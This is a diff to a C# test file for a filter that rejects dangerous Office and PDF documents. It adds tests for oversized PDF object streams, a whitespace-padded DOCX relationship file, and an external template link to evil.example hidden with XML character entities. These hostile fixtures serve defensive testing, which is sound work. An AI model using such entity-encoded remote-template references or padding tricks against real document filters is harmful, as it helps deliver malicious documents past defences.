@@ -42,6 +42,14 @@ public sealed class Documents_that_are_refused
     [Fact]
     public void A_pdf_whose_objects_unpack_without_end_is_refused() => Assert.False(Refused(Pack.Pdf(Pack.PackedObjects(new string(' ', 40_000_000)))).IsOtherKind);
 
+    [Fact]
+    public void A_pdf_of_countless_beginnings_of_packed_objects_is_refused_before_they_cost_anything() =>
+        Assert.False(Refused(Pack.Pdf(string.Concat(Enumerable.Repeat("ObjStm stream\n", 300_000)))).IsOtherKind);
+
+    [Fact]
+    public void What_a_document_refers_to_is_looked_at_to_its_end() =>
+        Assert.False(Refused(Pack.Docx(("word/_rels/settings.xml.rels", $"<R>{new string(' ', 4 * 1024 * 1024)}<Relationship Type=\"x/attachedTemplate\" TargetMode=\"External\"/></R>"))).IsOtherKind);
+
     public static TheoryData<string, byte[]> Acting() => new()
     {
         { "macros of Word", Pack.Docx(("word/vbaProject.bin", "x")) },
@@ -51,6 +59,7 @@ public sealed class Documents_that_are_refused
         { "a control", Pack.Docx(("word/activeX/activeX1.bin", "x")) },
         { "another file inside", Pack.Docx(("word/embeddings/oleObject1.bin", "x")) },
         { "a template from elsewhere", Pack.Docx(("word/_rels/settings.xml.rels", "<Relationship Type=\"x/attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/>")) },
+        { "a template from elsewhere in other signs", Pack.Docx(("word/_rels/settings.xml.rels", "<Relationship Type=\"x/attached&#84;emplate\" Target=\"http://evil.example/x.dotm\" TargetMode='E&#120;ternal'/>")) },
         { "macros of OpenDocument", Pack.Odt(("Basic/Standard/Module1.xml", "x")) },
         { "scripts of OpenDocument", Pack.Odt(("Scripts/python/x.py", "x")) },
     };
